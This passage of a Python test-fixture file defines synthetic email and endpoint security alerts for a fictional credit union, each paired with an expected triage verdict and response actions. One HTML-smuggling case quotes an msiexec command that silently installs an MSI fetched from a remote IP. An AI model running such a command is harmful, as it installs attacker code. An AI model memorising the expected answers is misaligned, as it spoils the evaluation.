        "saw the red banner and held the payment; Tasman confirmed by phone they never sent it and their mailbox was "
        "compromised last week.",
        "Dangerous",
        sender={"address": "accounts@tasmanoffice.com.au", "displayName": "Tasman Office Supplies - Accounts"},
        replyTo="accts.tasmanoffice@gmail.com",
        recipients=[staff("ap")],
        subject="RE: INV-20931 - updated remittance",
        threatTypes=["Account takeover", "Payment fraud"],
        bannerShown=True,
    ),
    egress(
        (37, (BEN, PHISHING, []), "medium"),
        "Egress Defend: Suspicious - payment details change request",
        "From Ōtaki Catering (supplies the Wellington staff room): same domain, same sending infrastructure as the "
        "last two years, asking us to pay into their new ANZ account after their merger with Kāpiti Kitchens. Mere "
        "in AP phoned the number in our vendor master (not the one in the email); their finance manager confirmed the "
        "change and sent the signed letter. Good banner, genuine request.",
        "Suspicious",
        sender={"address": "accounts@otakicatering.co.nz", "displayName": "Ōtaki Catering"},
        recipients=[staff("ap")],
        threatTypes=["Payment details change"],
        bannerShown=True,
    ),
    egress(
        (38, (SUS, PHISHING, ["notify", "quarantine_email"]), "medium"),
        "Egress Defend: Suspicious - payload (link redirect chain)",
        "From a real Cape Town conveyancing firm (Botha & Meyer Inc.), 'Settlement docs - erf 4471', with a DocuSign "
        "envelope link that redirects to a OneDrive file 'Settlement.pdf' whose only content is a 'View secure "
        "document' button. Nadia clicked that button. By the time we looked, the target returns 404, so we can't "
        "tell whether it was a login page. He says he typed nothing. The firm hasn't replied to us.",
        "Suspicious",
        sender={"address": "conveyancing@bothameyer.co.za", "displayName": "Botha & Meyer Inc."},
        recipients=[staff("n.abrahams")],
        threatTypes=["Payload"],
        userInteraction={"action": "clicked", "by": staff("n.abrahams")},
    ),
    egress(
        (39, (UNK, PHISHING, []), "low"),
        "Egress Defend: user report",
        "(no comment)",
        None,
        eventType="user_report",
        reportedBy=staff("l.tremblay"),
        userComment="",
        message=None,
    ),
]


# ---------------------------------------------------------------- Perception Point


def perception(h: Head, title: str, text: str, verdict: str, scan: dict[str, Any]) -> Case:
    n, expected, severity = h
    raw = {"scan_id": f"pp-{7_730_000 + n * 91}", "org": "marlowecu", "final_verdict": verdict, **scan}
    return alert(cid(n), "Perception Point", expected, title, text, severity, "perception-point", raw, tags=["email"])


PERCEPTION = [
    perception(
        (40, (MAL, MALWARE, ["isolate_host", "block_ip", "block_sender"]), "critical"),
        "Perception Point: MAL - HTML smuggling (Payment_Advice_MCU.html)",
        "Delivered at 09:31 before the dynamic scan finished; verdict came at 09:48 and the message was pulled. The "
        "HTML builds an ISO in the browser; inside is Payment_Advice.lnk, which runs msiexec /q /i "
        "http://62.233.50.112/i.msi. Pieter opened it at 09:40 on MCU-CPT-LN03: the LNK ran, the MSI installed "
        "something under C:\\ProgramData\\Oracle\\Java\\ and that now calls out every 60 seconds.",
        "MAL",
        {
            "threat_type": "Malware",
            "engines": ["HAP", "Static", "Recursive unpacker"],
            "sender": "remittance@payadvice-portal.net",
            "recipients": [staff("p.botha")],
            "action": "Quarantined (post-delivery)",
        },
    ),
    perception(
        (41, (MAL, PHISHING, ["block_sender"]), "high"),
        "Perception Point: 120 messages quarantined - QR code phishing",
        "'ACTION REQUIRED: MFA re-enrolment by 31 January' with a PDF carrying a QR code to mcu-authsecure.com "
        "(registered two days ago; shows a Microsoft sign-in page with our logo). Quarantined at the gateway, no copy "
        "was delivered.",
        "MAL",
        {
            "threat_type": "Phishing",
            "engines": ["QR scanner", "Phishing"],
            "sender": "it-security@mcu-authsecure.com",
            "recipient_count": 120,
            "action": "Quarantined",
        },
    ),
    perception(
        (42, (BEN, PHISHING, []), "low"),
        "Reported by 34 users: Your parcel is held at the depot",
        "Our own Q4 awareness simulation ('Parcel held' template); the landing page is on the simulation vendor's "
        "domain, allowlisted in Perception Point by IT for the 20-24 January campaign. Nothing to do - good reporting "
        "rate.",
        "CLN",
        {"threat_type": None, "reports": 34, "ir_team_note": "Simulation, allowlisted. Closed."},
    ),
    perception(
        (43, (SUS, PHISHING, ["quarantine_email"]), "medium"),
        "Perception Point: SPM - look-alike domain marlowecu-hr.org",
        "hr-notices@marlowecu-hr.org, 'Updated leave policy 2027', link to a page that currently only says 'Site under "
        "construction'. Domain registered two days ago, MX set up yesterday. 14 HR and payroll staff got it. No "
        "credential form yet - could be staged for later.",
        "SPM",
        {
            "threat_type": "Impersonation",
            "sender": "hr-notices@marlowecu-hr.org",
            "recipient_count": 14,
            "action": "Delivered",
        },
    ),
]


# ---------------------------------------------------------------- INKY


def inky(h: Head, title: str, text: str | None, level: str, **raw: Any) -> Case:
    n, expected, severity = h
    body = {"inky_id": f"inky-{n}-5b2d9e", "threat_level": level, "team": "marlowecu", **raw}
    return alert(cid(n), "INKY", expected, title, text, severity, "inky", body, tags=["email", "user-report"])


INKY = [
    inky(
        (44, (MAL, PHISHING, [*PULL, "reset_credentials"]), "high"),
        "INKY report: Microsoft 365 : votre boîte aux lettres est pleine",
        "Bonjour, j'ai reçu ce courriel « votre boîte est pleine », j'ai cliqué et j'ai mis mon mot de passe, puis "
        "la page a affiché une erreur. Est-ce que c'est grave ? Désolée. -- Chloé",
        "danger",
        sender="postmaster@boite-courriel-maj.com",
        reasons=["Brand impersonation: Microsoft", "Sender domain 3 days old", "Credential harvesting link"],
        report={"reported_by": staff("c.bergeron"), "clicked": True},
    ),
    inky(
        (45, (BEN, PHISHING, []), "low"),
        "INKY report: Tasmanian Chamber of Commerce - January business bulletin",
        "spam?? never subscribed to this, pls check -- (IT: sent through Mailchimp, SPF/DKIM/DMARC pass, "
        "List-Unsubscribe present; marketing subscribed the Hobart branch shared inbox in December.)",
        "neutral",
        sender="bulletin@tascoc.org.au",
        auth={"spf": "pass", "dkim": "pass", "dmarc": "pass"},
        report={"reported_by": staff("c.reardon")},
    ),
    inky(
        (46, (SUS, PHISHING, ["notify"]), "medium"),
        "INKY: Caution - external sender with an employee's name",
        "'Kadri Tamm' <kadri.tamm77@gmail.com> to payroll: 'I have changed bank, please use the new account for the "
        "January salary.' That gmail address is the personal one HR has on file for her and it reads like her, but "
        "it was sent at 03:10 her time and the new account is at a bank in Lithuania. She's on leave until the 28th "
        "and hasn't answered; payroll cut-off is the 25th. Payroll has changed nothing.",
        "caution",
        sender="kadri.tamm77@gmail.com",
        reasons=["Display name matches internal user", "Payment details change"],
    ),
]


# ---------------------------------------------------------------- Trustifi


def trustifi(h: Head, title: str, text: str, **raw: Any) -> Case:
    n, expected, severity = h
    return alert(cid(n), "Trustifi", expected, title, text, severity, "trustifi", {"account": ORG, **raw})


TRUSTIFI = [
    trustifi(
        (47, (BEN, PHISHING, []), "low"),
        "Trustifi Inbound Shield: quarantined - encrypted archive from external auditor",
        "Password-protected ZIP 'MCU_FY26_audit_requests.zip' from our external auditors (the engagement partner's "
        "real address, SPF/DKIM pass) held as 'encrypted attachment - unable to scan'. The password came by SMS as "
        "agreed at kick-off. Released after Declan called the partner.",
        eventType="inbound_quarantine",
        sender="r.hollis@hollisgrant.com.au",
        threat_type="Encrypted attachment",
        status="released",
    ),
    trustifi(
        (48, (MAL, EXFIL, ["disable_user", "reset_credentials"]), "critical"),
        "Trustifi Outbound DLP: member account numbers sent to external address (27 messages)",
        "Since yesterday 15:10 every message to loans@marlowecu.org is auto-forwarded to mcu.loans.dept@proton.me - 27 "
        "so far, with loan applications, account numbers and scanned IDs. The forwarding rule was created by j.okafor "
        "at 15:06 from a session in 102.89.34.7 (Lagos). Joseph was in the Cape Town office all day and says he never "
        "made a rule.",
        eventType="outbound_dlp",
        policy="Member PII - external",
        sender=staff("loans"),
        recipients=["mcu.loans.dept@proton.me"],
        matches={"account_number": 27, "id_document": 11},
        action="sent",
    ),
    trustifi(
        (49, (SUS, EXFIL, ["notify"]), "medium"),
        "Trustifi Outbound DLP: 'Member PII' - message to a personal address",
        "Aroha sent 'weekend catchup.xlsx' (212 members: names, account numbers, loan balances) to her own gmail at "
        "17:55 on Friday. She told her manager she wanted to finish the arrears call list at home. Against policy; "
        "nothing suggests anyone else has the file.",
        eventType="outbound_dlp",
        policy="Member PII - external",
        sender=staff("a.ngata"),
        recipients=["aroha.ngata.nz@gmail.com"],
        matches={"account_number": 212},
        action="sent",
    ),
]


# ---------------------------------------------------------------- Graphus


def graphus(h: Head, kind: str, title: str | None, text: str | None, **raw: Any) -> Case:
    n, expected, severity = h
    body = {"alertId": 90_410 + n, "alertType": kind, "companyName": "Marlowe Credit Union", **raw}
    return alert(cid(n), "Graphus", expected, title, text, severity, "graphus", body, tags=[kind.lower()])


GRAPHUS = [
    graphus(
        (50, (SUS, PHISHING, ["quarantine_email"]), "medium"),
        "EmployeeShield",
        "Graphus EmployeeShield: first-time sender - Reykjavíkurborg (Dropbox Transfer)",
        "Fékk þetta frá einhverjum hjá borginni um lóðarsamning, hlekkur á Dropbox. Við erum ekki með neitt mál hjá "
        "borginni sem ég veit um. Opnaði ekki. -- (IT: reykjavik.is is genuine, SPF/DKIM pass; the link is a real "
        "Dropbox Transfer that asks you to sign in with Microsoft to view. Either a hijacked municipal mailbox or a "
        "real request sent to the wrong person.)",
        sender="skipulag.lodir@reykjavik.is",
        recipient=staff("r.olafsdottir"),
        riskScore=58,
    ),
    graphus(
        (51, (BEN, PHISHING, []), "low"),
        "Phish911",
        "Phish911: 19 reports - 'Member & staff satisfaction survey - 5 minutes'",
        "Marketing sent the survey through Qualtrics without telling anyone. Link goes to marlowecu.qualtrics.com, "
        "sender is Qualtrics' own mail platform on our behalf. Let the reporters know; asked marketing to announce "
        "next time.",
        sender="noreply@qemailserver.com",
        reports=19,
        status="released",
    ),
    graphus((52, (UNK, PHISHING, []), "low"), "Phish911", "Phish911: FW:", "see attached", attachments=[], reports=1),
    graphus(
        (53, (MAL, AVAIL, ["notify"]), "high"),
        "TrustGraph",
        "TrustGraph: unusual inbound volume to h.quill - 3,412 messages in 58 minutes",
        "Newsletter sign-up confirmations from hundreds of real sites in a dozen languages; Harriet's mailbox is "
        "unusable. At 10:20 she got a Teams chat from 'IT Help Desk' (external tenant mcuhelpdesk.onmicrosoft.com) "
        "offering to 'fix the spam' over Quick Assist. She didn't accept and rang us instead.",
        recipient=staff("h.quill"),
        messageCount=3412,
        windowMinutes=58,
        distinctSenders=611,
    ),
]


# ---------------------------------------------------------------- phish@ mailbox poller (home-made, raw only)


def poller(h: Head, raw: dict[str, Any]) -> Case:
    n, expected, severity = h
    raw = {"poller": "phishbox.py", "mailbox": f"phish@{ORG}", **raw}
    return alert(cid(n), "MCU phish-mailbox poller", expected, None, None, severity, "mcu-phishbox", raw)


POLLER = [
    poller(
        (54, (UNK, GENERIC, []), "low"),
        {"reporter": "", "subject": "", "from": "", "urls": [], "note": "parse error: message/rfc822 part missing"},
    ),
    poller(
        (55, (SUS, PHISHING, ["quarantine_email"]), "medium"),
        {
            "reporter": staff("k.tamm"),
            "from": "arved@tallinnakontor.ee",
            "subject": "Arve 2027-118",
            "urls": ["https://tallinnakontor-ee.sharefile-docs.com/d/8f2a"],
            "spf": "pass",
            "dkim": "none",
            "delivered_to": 3,
            "comment": "Kas see on päris? Me ei ole neilt midagi tellinud.",
        },
    ),
]


CASES: list[Case] = [
    *CYNET,
    *DEEP_INSTINCT,
    *HEIMDAL,
    *EMSISOFT,
    *WEBROOT,
    *THREATLOCKER,
    *COVALENCE,
    *VADE,
    *EGRESS,
    *PERCEPTION,
    *INKY,
    *TRUSTIFI,
    *GRAPHUS,
    *POLLER,
]
